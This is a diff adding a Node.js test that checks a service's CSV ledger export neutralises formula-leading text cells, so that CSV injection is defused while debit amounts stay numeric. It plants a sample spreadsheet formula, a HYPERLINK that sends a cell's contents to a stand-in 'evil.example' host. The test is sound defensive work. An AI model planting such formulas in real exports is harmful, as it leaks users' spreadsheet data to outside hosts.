@@ -5,6 +5,8 @@
  */
 import assert from 'node:assert/strict'
 import { after, before, describe, test } from 'node:test'
+import { parse } from 'csv-parse/sync'
+import { topUp } from '../../src/services/identity/admin.ts'
 import type { LedgerEntry } from '../../src/store/accounts/types.ts'
 import { type FakeStripe, startFakeStripe, stripeEnv } from '../helpers/fake-stripe.ts'
 import { BACKEND_PAIRS, startTestApp, type TestApp } from '../helpers/test-app.ts'
@@ -111,3 +113,29 @@ for (const b of BACKEND_PAIRS) {
     })
   })
 }
+
+describe('CSV answers neutralise formula-leading text cells, never numbers', () => {
+  let t: TestApp
+  before(async () => {
+    t = await startTestApp()
+  })
+  after(() => t?.close())
+
+  test('a ledger reference planted as a formula is exported as text; debits stay negative numbers', async () => {
+    const account = await t.account(0)
+    const evil = '=HYPERLINK("http://evil.example/?leak="&A1,"refund")'
+    await topUp(t.ctx, { accountId: account, usd: 10, reference: evil })
+    const key = await t.key(account)
+    assert.equal((await t.client.call('getMetrics', { params: { ticker: 'SPY' }, key })).status, 200)
+    const r = await t.client.call('getAccountLedger', { query: { format: 'csv' }, key })
+    assert.equal(r.status, 200, r.text)
+    assert.match(r.headers['content-type'] ?? '', /^text\/csv/)
+    const [header, ...rows] = parse(r.text, { record_delimiter: '\r\n' }) as string[][]
+    const col = (name: string) => (header as string[]).indexOf(name)
+    const topup = rows.find((x) => x[col('kind')] === 'topup') as string[]
+    assert.equal(topup[col('reference')], `'${evil}`)
+    const debit = rows.find((x) => x[col('kind')] === 'debit') as string[]
+    assert.equal(debit[col('amount_usd')], '-0.001')
+    for (const row of rows) for (const cell of row) assert.doesNotMatch(cell, /^[=+@\t\r]/)
+  })
+})
